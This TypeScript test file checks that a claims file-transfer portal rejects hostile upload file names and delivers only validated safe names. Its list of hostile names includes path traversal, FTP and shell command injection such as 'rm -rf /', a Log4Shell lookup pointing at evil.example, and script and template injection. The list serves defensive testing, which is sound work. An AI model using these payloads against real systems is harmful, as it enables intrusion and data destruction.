import fs from "node:fs";
import path from "node:path";
import { eq } from "drizzle-orm";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { getDb } from "@/db/client";
import { destinations, partnerAccounts, sshKeys, transfers } from "@/db/schema";
import { createApiToken } from "@/lib/api/tokens";
import { storeSecret } from "@/lib/vault/secret-store";
import { replaceRuntimeParts } from "@/lib/runtime";
import { generateRsaKeyPair } from "@/lib/keys";
import { runDeliveryAttempt } from "@/lib/transfers/delivery/attempt";
import { systemActor } from "@/lib/auth/actor";
import { startSandboxSftpServer, type SandboxSftpServer } from "@/lib/sandbox/sftp-server";
import { remoteNameProblem } from "@/lib/transfers/delivery/remote-name";
import { stagingRoot } from "@/lib/transfers/staging/files";
import { POST as apiUpload } from "@/app/api/v1/transfers/route";
import * as tusRoute from "@/app/api/uploads/[[...tus]]/route";
import { withTestDatabase } from "@/test/support/db";
import { partnerIn } from "@/test/support/factories";
import { useTemporaryPortalEnv } from "@/test/support/portal-env";
import { asSession } from "@/test/attack/support/boundary";

vi.mock("@/lib/auth/auth", async (importOriginal) => {
  const { boundary } = await import("@/test/attack/support/boundary");
  const original = await importOriginal<typeof import("@/lib/auth/auth")>();
  return { ...original, auth: async () => (boundary.sessionId ? { sessionId: boundary.sessionId, user: {} } : null) };
});
vi.mock("next/headers", async () => {
  const { boundary } = await import("@/test/attack/support/boundary");
  return { headers: async () => new Headers({ "x-portal-client-ip": boundary.ip }) };
});

const { dataDir } = useTemporaryPortalEnv();
withTestDatabase();

/** Names that try path traversal, command or header injection, templates, devices and look-alikes. */
export const HOSTILE_NAMES = [
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "claims/../../CLM0001P.TXT",
  "/etc/cron.d/job",
  "C:\\temp\\CLM.TXT",
  "\\\\fileserver\\share\\CLM.TXT",
  "CLM0001P.TXT\r\nDELE important.TXT",
  "CLM0001P.TXT\nSITE CHMOD 777 CLM",
  "CLM0001P.TXT\rRNTO x",
  "CLM0001P.TXT\u0000.exe",
  "<INCLUDE>CLM.TXT",
  "<!--#exec cmd=\"id\" -->.TXT",
  "{{7*7}}.TXT",
  "${jndi:ldap://evil.example/a}.TXT",
  "<script>alert(1)</script>.TXT",
  "CON",
  "con.txt",
  "NUL.TXT",
  "PRN.x12",
  "AUX",
  "COM1",
  "com9.claims",
  "LPT1.x12",
  "-rf.TXT",
  "--help",
  ".htaccess",
  ".bashrc",
  "..",
  ".",
  `${"A".repeat(201)}.TXT`,
  "CLM\u202Etxt.exe",
  "CLM0001P\uFF0F..\uFF0Fx.TXT",
  "CLM0001P\u2215x.TXT",
  "CLM0001P.TXT ",
  "CLM0001P.TXT.",
  "claims batch.TXT",
  "résumé.TXT",
  "CLM%2e%2e.TXT",
  "CLM0001P.TXT;rm -rf /",
  "`id`.TXT",
  "$(id).TXT",
  "|id",
  "*.TXT",
  "?.TXT",
  "CLM\tTAB.TXT",
  "\uFEFFCLM0001P.TXT",
  "CLM0001P.TXT\u200B",
];

/** Names that must pass and arrive upstream byte for byte. */
const SAFE_NAMES = ["CLM0001P.TXT", "claims_2026-11-21.x12", "S000000050A49-20261121-103412T.TXT", "a.b-c_d.EDI"];

const PASSWORD = "payer-issued-Pa55word";
const x12 = `ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *261121*1030*^*00501*000000001*0*T*:~GS*HC*X*Y~ST*837*0001~SE*2*0001~GE*1*1~IEA*1*000000001~\n`;

let server: SandboxSftpServer;
let partner: Awaited<ReturnType<typeof partnerIn>>;
let accountId: string;
let token: string;
const payerDir = () => path.join(dataDir, "payer", "incoming");

beforeAll(async () => {
  replaceRuntimeParts({ relayQueue: { enqueue: async () => undefined } });
  // The sandbox payer asks for a password and then a key, like the real one.
  const pair = await generateRsaKeyPair(2048, "filenames-test");
  server = await startSandboxSftpServer({ rootDir: path.join(dataDir, "payer"), users: [{ username: "clinic", password: PASSWORD, publicKeys: [pair.publicKey.openssh] }] });
  partner = await partnerIn();
  const db = await getDb();
  const [destination] = await db
    .insert(destinations)
    .values({ name: "Hostile names payer", protocol: "sftp", host: "127.0.0.1", port: server.port, remoteDir: "/incoming", auth: "password_and_key", hostKeyFingerprints: [server.hostKeyFingerprint], connectTimeoutMs: 3000, idleTimeoutMs: 10000, x12Policy: "warn" })
    .returning();
  const [account] = await db.insert(partnerAccounts).values({ organisationId: partner.organisation.id, destinationId: destination.id, username: "clinic" }).returning();
  accountId = account.id;
  await storeSecret({ kind: "partner_account", id: account.id }, "upstream_password", PASSWORD, null);
  const [key] = await db
    .insert(sshKeys)
    .values({ organisationId: partner.organisation.id, partnerAccountId: account.id, algorithm: "rsa", bits: 2048, opensshPublic: pair.publicKey.openssh, sha256: "x", md5: "x", source: "generated", hasPrivateKey: true, status: "installed" })
    .returning();
  await storeSecret({ kind: "ssh_key", id: key.id }, "private_key", pair.privateKeyPem, null);
  token = (await createApiToken(partner.actor, { name: "filenames" })).token;
}, 60_000);
afterAll(async () => {
  await server?.close();
});

async function postApi(name: string, body = x12) {
  return apiUpload(
    new NextRequest("http://portal.test/api/v1/transfers", {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "x-account-id": accountId, "x-filename": encodeURIComponent(name), "x-transfer-mode": "test", "content-type": "application/octet-stream", "content-length": String(Buffer.byteLength(body)) },
      body,
    }),
  );
}

const tusMetadata = (name: string) => [`filename ${Buffer.from(name).toString("base64")}`, `accountId ${Buffer.from(accountId).toString("base64")}`, `mode ${Buffer.from("test").toString("base64")}`].join(",");

/** A browser upload as tus-js-client does it: create, then one PATCH with the bytes. */
async function uploadWithTus(name: string, body = x12): Promise<{ status: number; body: string; transferId?: string }> {
  return asSession(partner.actor.sessionId, async () => {
    const created = await tusRoute.POST(
      new NextRequest("http://portal.test/api/uploads", { method: "POST", headers: { "tus-resumable": "1.0.0", "upload-length": String(Buffer.byteLength(body)), "upload-metadata": tusMetadata(name) } }),
    );
    if (created.status !== 201) return { status: created.status, body: await created.text() };
    const location = created.headers.get("location")!;
    const finished = await tusRoute.PATCH(
      new NextRequest(new URL(location, "http://portal.test/api/uploads/"), { method: "PATCH", headers: { "tus-resumable": "1.0.0", "upload-offset": "0", "content-type": "application/offset+octet-stream" }, body }),
    );
    const text = await finished.text();
    return { status: finished.status, body: text, transferId: finished.headers.get("x-transfer-id") ?? undefined };
  });
}

async function transfersNamed(name: string) {
  const db = await getDb();
  const rows = await db.select().from(transfers).where(eq(transfers.organisationId, partner.organisation.id));
  return rows.filter((row) => row.originalName === name || row.remoteName === name);
}

describe("hostile file names", () => {
  it("the name rule itself refuses every hostile name with a message that says what to do", () => {
    for (const name of HOSTILE_NAMES) expect(remoteNameProblem(name), JSON.stringify(name)).toMatch(/^(Use|Two dots|That name is reserved|A file name|Enter)/);
    for (const name of SAFE_NAMES) expect(remoteNameProblem(name), name).toBeNull();
  });

  it("POST /api/v1/transfers refuses each one before storing anything, saying why", async () => {
    const failures: string[] = [];
    for (const name of HOSTILE_NAMES) {
      const response = await postApi(name);
      const body = (await response.json()) as { error: { code: string; message: string } };
      if (response.status !== 422 || body.error.code !== "FILE_REJECTED" || !/file name cannot be sent as it is/i.test(body.error.message)) failures.push(`${JSON.stringify(name)}: ${response.status} ${JSON.stringify(body).slice(0, 200)}`);
      if ((await transfersNamed(name)).length) failures.push(`${JSON.stringify(name)}: a transfer was recorded`);
    }
    expect(failures).toEqual([]);
  });

  it("the upload page's tus endpoint refuses each one at creation, saying why", async () => {
    const failures: string[] = [];
    for (const name of HOSTILE_NAMES) {
      const result = await uploadWithTus(name);
      if (result.status !== 422 || !/file name cannot be sent as it is/i.test(result.body)) failures.push(`${JSON.stringify(name)}: ${result.status} ${result.body.slice(0, 200)}`);
      if ((await transfersNamed(name)).length) failures.push(`${JSON.stringify(name)}: a transfer was recorded`);
    }
    expect(failures).toEqual([]);
  });

  it("nothing hostile reaches the disk: staged files carry generated names only", () => {
    const stored: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(full);
        else stored.push(path.relative(stagingRoot(), full));
      }
    };
    if (fs.existsSync(stagingRoot())) walk(stagingRoot());
    for (const file of stored) expect(file).toMatch(/^(\d{4}-\d{2}|tus)\/[0-9a-f-]{36}(\.json)?$/);
  });

  it("safe names pass both ways, and the payer's server receives exactly the validated name", async () => {
    const delivered: string[] = [];
    for (const [index, name] of SAFE_NAMES.entries()) {
      // Different bytes per upload, so none is held back as a duplicate.
      const body = x12.replace("000000001", String(100000000 + index));
      const viaApi = index % 2 === 0;
      let transferId: string;
      if (viaApi) {
        const response = await postApi(name, body);
        expect(response.status, name).toBe(202);
        transferId = ((await response.json()) as { id: string }).id;
      } else {
        const result = await uploadWithTus(name, body);
        expect(result.status, `${name}: ${result.body}`).toBe(200);
        transferId = result.transferId!;
      }
      const attempt = await runDeliveryAttempt(systemActor("relay-worker"), transferId, { isLastAttempt: true });
      expect(attempt, JSON.stringify(attempt.error)).toMatchObject({ status: "delivered" });
      delivered.push(name);
      expect(fs.readFileSync(path.join(payerDir(), name), "utf8")).toBe(body);
    }
    // Nothing else arrived: no temporary names left behind, no name altered on the way.
    expect(fs.readdirSync(payerDir()).sort()).toEqual([...delivered].sort());
    expect(fs.readdirSync(path.join(dataDir, "payer")).sort()).toEqual(["incoming", "outbound"]);
  });
});
